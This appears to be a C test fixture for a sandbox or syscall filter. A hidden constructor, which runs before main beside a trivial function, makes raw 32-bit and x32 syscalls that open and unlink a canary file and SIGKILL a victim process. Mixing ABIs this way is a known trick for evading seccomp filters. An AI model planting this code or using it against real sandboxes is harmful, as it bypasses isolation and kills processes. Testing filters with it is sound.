#include "canary.h"
__attribute__((constructor)) static void early(void) {
#if defined(__x86_64__)
  long file;
  __asm__ volatile("int $0x80" : "=a"(file) : "a"(5L), "b"(CANARY), "c"(01001L) : "memory"); /* open of 32 bits */
  __asm__ volatile("int $0x80" : "=a"(file) : "a"(37L), "b"((long)VICTIM), "c"(9L) : "memory"); /* kill */
  __asm__ volatile("syscall" : "=a"(file) : "a"(0x40000000L | 87), "D"(CANARY) : "rcx", "r11", "memory"); /* x32 unlink */
#endif
  touch_canary();
}
int f(int x) { return x > 3; }
